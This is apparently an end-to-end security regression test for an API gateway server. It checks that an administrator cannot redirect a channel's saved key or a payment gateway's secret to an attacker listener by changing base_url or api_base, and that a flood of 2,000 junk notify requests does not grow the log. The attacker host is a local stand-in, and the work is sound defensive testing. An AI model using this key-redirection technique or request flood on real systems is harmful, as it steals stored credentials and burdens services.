/**
 * Round 3's findings 5, 6 and 10 played against the real server (Worker on workerd), with the
 * attacker's own listener on 127.0.0.1: an administrator (not root) tries to have a channel's saved
 * key and a payment gateway's saved secret sent to that listener, and an anonymous caller sends
 * 2,000 notifies to gateways that do not exist. The listener must see neither secret, and the log
 * table (counted through the admin log API) must not grow from the notifies.
 */
import { rmSync } from 'node:fs'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
// @ts-expect-error plain ESM script without types
import { startServer } from '../../scripts/serve.mjs'
import { startMockPayments, type MockPayments } from '../../scripts/mock-payments.mjs'
import { ApiSession } from './support/api'
import { freshMigratedState } from '../../scripts/fresh-state'

const CHANNEL_KEY = 'sk-channel-secret-e2e-0123456789abcdef'

/** A local HTTP server that records everything sent to it and answers like a model list. */
async function listener() {
  const seen: string[] = []
  const server: Server = createServer((req: IncomingMessage, res) => {
    let body = ''
    req.on('data', (chunk: Buffer) => (body += chunk.toString()))
    req.on('end', () => {
      seen.push(`${req.method} ${req.url}\n${JSON.stringify(req.headers)}\n${body}`)
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ object: 'list', data: [{ id: 'gpt-4o-mini', object: 'model' }] }))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen, stop: () => new Promise<void>((r) => server.close(() => r())) }
}

let server: { url: URL; stop(): Promise<void> }
let persistDir: string
let mock: MockPayments
let base: string
let rootSession: ApiSession
let admin: ApiSession
let attacker: Awaited<ReturnType<typeof listener>>
let supplier: Awaited<ReturnType<typeof listener>>

beforeAll(async () => {
  persistDir = freshMigratedState('exfiltration-e2e-')
  server = await startServer({ port: 0, persistDir, quiet: true, cron: false, build: false, vars: { CRITICAL_RATE_LIMIT: '100000' } })
  base = server.url.href.replace(/\/$/, '')
  mock = await startMockPayments({ port: 0 })
  attacker = await listener()
  supplier = await listener()
  rootSession = new ApiSession(base)
  await rootSession.call('GET', '/api/status')
  await rootSession.ok('POST', '/api/setup', { username: 'exroot', password: 'exfil-root-password-1' })
  admin = new ApiSession(base)
  await admin.call('GET', '/api/status')
  await admin.ok('POST', '/api/user/register', { username: 'exadmin', password: 'exfil-admin-password-1' })
  const me = await admin.login('exadmin', 'exfil-admin-password-1')
  await rootSession.ok('POST', '/api/user/manage', { id: (me as { id: number }).id, action: 'promote' })
})

afterAll(async () => {
  await attacker?.stop()
  await supplier?.stop()
  await mock?.stop()
  await server?.stop()
  if (persistDir) rmSync(persistDir, { recursive: true, force: true })
})

const attackerSaw = (secret: string) => attacker.seen.filter((r) => r.includes(secret))

describe('an administrator trying to read root-only secrets', () => {
  it('cannot send a channel key to their own listener (finding 5)', async () => {
    const [channel] = await rootSession.ok<{ id: number }[]>('POST', '/api/channel/', {
      type: 8,
      name: 'secret supplier',
      key: CHANNEL_KEY,
      base_url: supplier.url,
      models: 'gpt-4o-mini',
      group: 'default',
    })
    const id = channel!.id
    const list = await admin.call('POST', '/api/channel/provider_models_list', { type: 8, id, base_url: attacker.url })
    expect(list.status).toBe(403)
    const moved = await admin.call('PUT', '/api/channel/', { type: 8, id, name: 'secret supplier', key: '', base_url: attacker.url, models: 'gpt-4o-mini', group: 'default' })
    expect(moved.status).toBe(403)
    // The legitimate use still works: the saved key goes to the saved supplier.
    expect(await admin.ok('POST', '/api/channel/provider_models_list', { type: 8, id, base_url: '' })).toEqual(['gpt-4o-mini'])
    expect(supplier.seen.some((r) => r.includes(CHANNEL_KEY))).toBe(true)
    expect(attackerSaw(CHANNEL_KEY)).toEqual([])
    expect(attacker.seen).toEqual([])
  })

  it('cannot create, repoint or delete a payment gateway, and root cannot repoint a saved secret (finding 6)', async () => {
    const preset = mock.configs().stripe
    const secret = preset.config.secret_key!
    const gateway = await rootSession.ok<{ id: number }>('POST', '/api/payment/', { name: 'Stripe', type: 'stripe', currency: preset.currency, config: preset.config })
    const repoint = await admin.call('PUT', '/api/payment/', { id: gateway.id, config: { ...preset.config, secret_key: '', api_base: attacker.url } })
    expect(repoint.status).toBe(403)
    expect(
      (await admin.call('POST', '/api/payment/', { name: 'Mine', type: 'stripe', currency: 'USD', config: { secret_key: 'sk_test_mine', api_base: attacker.url } })).status
    ).toBe(403)
    expect((await admin.call('DELETE', `/api/payment/${gateway.id}`)).status).toBe(403)
    const rootRepoint = await rootSession.call('PUT', '/api/payment/', { id: gateway.id, config: { ...preset.config, secret_key: '', api_base: attacker.url } })
    expect(rootRepoint.status).toBe(400)
    expect(rootRepoint.body.data).toMatchObject({ fields: { 'config.secret_key': expect.stringContaining('must be typed again') } })
    expect(attackerSaw(secret)).toEqual([])
    expect(attacker.seen).toEqual([])
    // The audit trail names the root's writes and never the secret.
    const audit = await rootSession.ok<{ data: { content: string }[] }>('GET', '/api/log/?type=3&page_size=50')
    expect(audit.data.map((r) => r.content)).toContain(`exroot created payment gateway "Stripe" (#${gateway.id}, stripe)`)
    expect(JSON.stringify(audit)).not.toContain(secret)
  })

  it('2,000 notifies to unknown gateways leave the log table as it was (finding 10)', async () => {
    const count = async () => (await rootSession.ok<{ total_count: number }>('GET', '/api/log/?page_size=1')).total_count
    const before = await count()
    const statuses = new Map<number, number>()
    const junk = `sign=${'a'.repeat(1500)}`
    for (let batch = 0; batch < 40; batch++) {
      const answers = await Promise.all(
        Array.from({ length: 50 }, (_, i) =>
          fetch(`${base}/api/payment/notify/${batch}x${i}?${junk}`, { method: 'POST', body: 'b'.repeat(3000), headers: { 'content-type': 'text/plain' } }).then(async (r) => {
            await r.arrayBuffer()
            return r.status
          })
        )
      )
      for (const s of answers) statuses.set(s, (statuses.get(s) ?? 0) + 1)
    }
    expect([...statuses.keys()].sort()).toEqual([404, 429])
    expect([...statuses.values()].reduce((a, b) => a + b)).toBe(2000)
    expect(await count()).toBe(before)
  })
})
